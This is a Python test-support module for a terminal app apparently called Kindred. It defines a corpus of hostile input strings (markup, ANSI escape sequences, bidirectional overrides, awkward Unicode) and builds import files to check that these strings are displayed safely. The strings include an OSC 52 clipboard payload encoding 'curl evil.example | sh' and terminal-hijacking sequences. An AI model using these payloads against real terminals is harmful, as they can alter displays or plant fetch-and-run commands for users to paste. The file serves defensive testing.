"""A corpus of hostile text, checks for what may and may not reach a terminal, and plans
holding the corpus.

Every entry is text a user could type, an imported JSON file could hold, a hand-edited plan
file could hold, or a ``--content`` guide could contain. Kindred must show all of it literally
(markup-like text with its brackets, never as styles or actions) and safely (no control
character, escape sequence or bidirectional override may reach the terminal).
"""

import base64
import json
import unicodedata
from dataclasses import dataclass
from pathlib import Path

from tui.cli import main as kindred
from tui.core.plan import OBJECTIONS, PARTS_BY_TABLE, PEOPLE, TREATMENTS, field_of
from tui.core.safe_text import strip_controls


@dataclass(frozen=True)
class Hostile:
    id: str
    text: str
    # "markup": markup-like text that must be shown exactly as written.
    # "control": control characters or escape sequences (none may reach the terminal).
    # "bidi": bidirectional controls (none may reach the terminal).
    # "unicode": legitimate but awkward text (wide, right-to-left, combining, joiners).
    # "layout": very long text.
    kind: str

    @property
    def is_clean(self) -> bool:
        """Nothing in it needs removing: it must be shown as written (tabs and line breaks
        may become spaces)."""
        return not forbidden_in(self.text.replace("\t", " ").replace("\n", " "))

    @property
    def one_line(self) -> str:
        """The text as a one-line field keeps it (as the plan's clean_value does)."""
        return strip_controls(self.text).strip()

    @property
    def multiline(self) -> str:
        return strip_controls(self.text, multiline=True)


def _zalgo(word: str, marks_per_letter: int = 12) -> str:
    marks = [chr(code) for code in range(0x0300, 0x036F)]
    out = []
    for index, letter in enumerate(word):
        out.append(letter)
        out.extend(marks[(index * 7 + n) % len(marks)] for n in range(marks_per_letter))
    return "".join(out)


_OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"

CORPUS: list[Hostile] = [
    # Rich and Textual markup, and things that look like it.
    Hostile("bold", "[b]bold[/b]", "markup"),
    Hostile("close-all", "[/]", "markup"),
    Hostile("half-close", "[/", "markup"),
    Hostile("open-bracket", "[", "markup"),
    Hostile("close-bracket", "]", "markup"),
    Hostile("click-quit", "[@click=app.quit]x[/]", "markup"),
    Hostile("click-quit-word", "[@click=app.quit]Anna[/]", "markup"),
    Hostile("click-bell", "[@click=app.bell]ring[/]", "markup"),
    Hostile("link", "[link=https://example.com]x[/link]", "markup"),
    Hostile("colours", "[red on blue]", "markup"),
    Hostile("colours-closed", "[red on blue]Ben[/red on blue]", "markup"),
    Hostile("variable", "$accent", "markup"),
    Hostile("variable-markup", "[$accent]Cleo[/]", "markup"),
    Hostile("variable-style", "[bold $error on $primary 50%]x[/]", "markup"),
    Hostile("escaped", "\\[escaped]", "markup"),
    Hostile("double-escape", "\\\\[b]x\\\\[/b]", "markup"),
    Hostile("emoji-code", ":smile: :warning:", "markup"),
    Hostile("format", "{name} {0} %s %(x)d {{", "markup"),
    Hostile("markdown", "*em* **strong** `code` <b>html</b> # not a heading", "markup"),
    Hostile("markdown-link", "[click me](https://evil.example)", "markup"),
    # Control characters and escape sequences.
    Hostile("esc", "A\x1bB", "control"),
    Hostile("csi-clear", "\x1b[2J\x1b[HCleared", "control"),
    Hostile("sgr", "\x1b[31mred\x1b[0m", "control"),
    Hostile("osc-title", "\x1b]0;owned\x07Anna", "control"),
    Hostile("osc-title-st", "\x1b]2;owned\x1b\\Ben", "control"),
    Hostile("osc52", _OSC52 + "clip", "control"),
    Hostile("osc8", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "control"),
    Hostile("dcs", "\x1bP1$qm\x1b\\dcs", "control"),
    Hostile("c1-csi", "\x9b2Jc1", "control"),
    Hostile("c1-osc", "\x9d0;owned\x9ctitle", "control"),
    Hostile("bell", "ring\x07\x07", "control"),
    Hostile("backspace", "abc\x08\x08\x08xyz", "control"),
    Hostile("carriage-return", "visible\rhidden", "control"),
    Hostile("nul", "nul\x00byte", "control"),
    Hostile("del", "del\x7fete", "control"),
    Hostile("vt-ff-nel", "a\x0bb\x0cc\x85d", "control"),
    # Bidirectional controls and line separators.
    Hostile("rlo", "\u202eexe.txt", "bidi"),
    Hostile("isolates", "\u2066a\u2067b\u2068c\u2069d", "bidi"),
    Hostile("embeddings", "\u202aa\u202bb\u202cc\u202dd", "bidi"),
    Hostile("marks", "\u200ea\u200fb\u061cc", "bidi"),
    Hostile("separators", "a\u2028b\u2029c", "bidi"),
    # Legitimate text that is awkward to lay out.
    Hostile("emoji", "👨‍👩‍👧‍👦 family 🎉", "unicode"),
    Hostile("cjk", "中文名字テスト한국어", "unicode"),
    Hostile("arabic", "مرحبا بالعالم", "unicode"),
    Hostile("hebrew", "שלום עולם", "unicode"),
    Hostile("zalgo", _zalgo("Zalgo"), "unicode"),
    Hostile("joiners", "a\u200db\u200cc\u2060d", "unicode"),
    Hostile("fullwidth", "ＦＵＬＬ", "unicode"),
    Hostile("tabs", "col1\tcol2\t\tcol3", "unicode"),
    # JSON can hold a lone surrogate, which no terminal (and no UTF-8) can.
    Hostile("lone-surrogate", json.loads('"lone \\ud800 surrogate"'), "control"),
    # Very long text.
    Hostile("long-word", "W" * 5_000, "layout"),
    Hostile("many-lines", "\n".join(f"line {n}" for n in range(2_000)), "layout"),
]

BY_ID = {entry.id: entry for entry in CORPUS}
assert len(BY_ID) == len(CORPUS)

# Everything that must never reach a terminal: C0 and C1 controls (tabs and newlines are
# layout, never sent as such), DEL, bidirectional controls, line and paragraph separators,
# and lone surrogates.
_BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
_SEPARATORS = {"\u2028", "\u2029"}


def is_forbidden(char: str) -> bool:
    return unicodedata.category(char) in ("Cc", "Cs") or char in _BIDI or char in _SEPARATORS


def forbidden_in(text: str) -> list[str]:
    """The forbidden characters in text, each once, in order."""
    seen: list[str] = []
    for char in text:
        if is_forbidden(char) and char not in seen:
            seen.append(char)
    return seen


# Payloads that would do something if they reached a terminal, for byte-level checks.
TERMINAL_PAYLOADS: dict[str, bytes] = {
    "OSC 0 title": b"\x1b]0;owned",
    "OSC 2 title": b"\x1b]2;owned",
    "OSC 52 clipboard": b"\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh"),
    "OSC 8 hyperlink": b"\x1b]8;;https://evil.example",
    "DCS": b"\x1bP1$qm",
    "CSI clear screen": b"\x1b[2J\x1b[HCleared",
    "SGR red from the plan": b"\x1b[31mred",
    "C1 CSI": "\x9b2Jc1".encode(),
    "C1 OSC": "\x9d0;owned".encode(),
    "right-to-left override": "\u202e".encode(),
    "isolates": "\u2066".encode(),
}


# Plans holding the corpus

STARTED_AT = "2026-02-01T18:30:00+00:00"


def checkable(entry: Hostile) -> bool:
    return entry.is_clean and entry.kind != "layout"


def changed_by_import(entry: Hostile) -> bool:
    """Import cleans this text (or refuses it in one-line fields): worth its own walk."""
    return (
        entry.kind == "layout"
        or entry.one_line != entry.text.strip()
        or entry.multiline != entry.text
        or any(is_forbidden(char) for char in entry.multiline)
    )


def person_record(number: int, entry: Hostile) -> dict:
    text = entry.text
    return {
        "id": f"p{number}",
        "name": text,
        "relationship": text,
        "role": "member",
        "order": number,
        "target_seconds": 120,
        "attending": False,
        "read_by": text,
        "enabled": True,
        "enabling": text,
        "statement": text,
        "bottom_line": text,
    }


def treatment_record(number: int, entry: Hostile) -> dict:
    text = entry.text
    return {"id": f"t{number}", "name": text, "kind": "residential", "contact": text, "cost": text}


def objection_record(number: int, entry: Hostile) -> dict:
    return {"id": f"o{number}", "objection": entry.text, "answer": entry.text}


def singleton_records(entry: Hostile) -> dict[str, dict]:
    text = entry.text
    return {
        "plan": {"title": text},
        "specialist": {"name": text, "role": "interventionist", "contact": text},
        "meeting": {"when": text, "place": text, "who_brings": text, "how_brought": text},
        "aftercare": {"follow_up": text, "if_refused": text},
    }


def within_limits(part, record: dict) -> dict:
    """The record with every text over its field's limit left out (import would refuse it;
    test_import_refuses_text_over_the_limit checks that it does)."""
    kept = {}
    for name, value in record.items():
        if isinstance(value, str) and name != "id":
            spec = field_of(part, name)
            if spec.kind in ("text", "long", "moment"):  # a moment may be text, as old plans
                cleaned = strip_controls(value, multiline=spec.kind == "long")
                if len(cleaned if spec.kind == "long" else cleaned.strip()) > spec.limit:
                    continue
        kept[name] = value
    return kept


def import_document(batch: list[Hostile], single: Hostile) -> dict:
    """The batch as a `kindred import` file. Text too long for a field is left out of it."""
    people = []
    for number, entry in enumerate(batch, start=1):
        record = within_limits(PEOPLE, person_record(number, entry))
        record.setdefault("name", f"person {number}")
        record.setdefault("relationship", "")
        record.setdefault("bottom_line", "")
        record.setdefault("statement", "")
        record["attempts"] = [{"started_at": STARTED_AT, "seconds": 95.0}] if number % 2 else []
        people.append(record)
    treatments = [
        {"name": f"treatment {number}", **within_limits(TREATMENTS, treatment_record(number, e))}
        for number, e in enumerate(batch, start=1)
    ]
    objections = [
        {
            "objection": f"objection {number}",
            **within_limits(OBJECTIONS, objection_record(number, e)),
        }
        for number, e in enumerate(batch, start=1)
    ]
    singles = {
        table: within_limits(PARTS_BY_TABLE[table], record)
        for table, record in singleton_records(single).items()
    }
    return {
        "format": "kindred-plan",
        "version": 1,
        "plan": {
            "title": singles["plan"].get("title", ""),
            "people": people,
            "specialist": singles["specialist"],
            "meeting": singles["meeting"],
            "treatments": treatments,
            "objections": objections,
            "aftercare": singles["aftercare"],
            "runs": [
                {
                    "started_at": STARTED_AT,
                    "total_seconds": 300.0,
                    "splits": [
                        {"person_id": f"p{n}", "seconds": 30.0} for n in range(1, len(batch) + 1)
                    ],
                }
            ],
        },
    }


def import_plan(path: Path, batch: list[Hostile], single: Hostile, folder: Path) -> None:
    """Run `kindred import --replace` on a JSON file holding the batch."""
    document = folder / "import.json"
    # ensure_ascii keeps a lone surrogate as its JSON escape, as a real file would hold it
    document.write_text(json.dumps(import_document(batch, single)), encoding="utf-8")
    status = kindred(["import", str(document), "--replace", "--data", str(path)])
    assert status == 0, f"kindred import refused the batch with {single.id}"
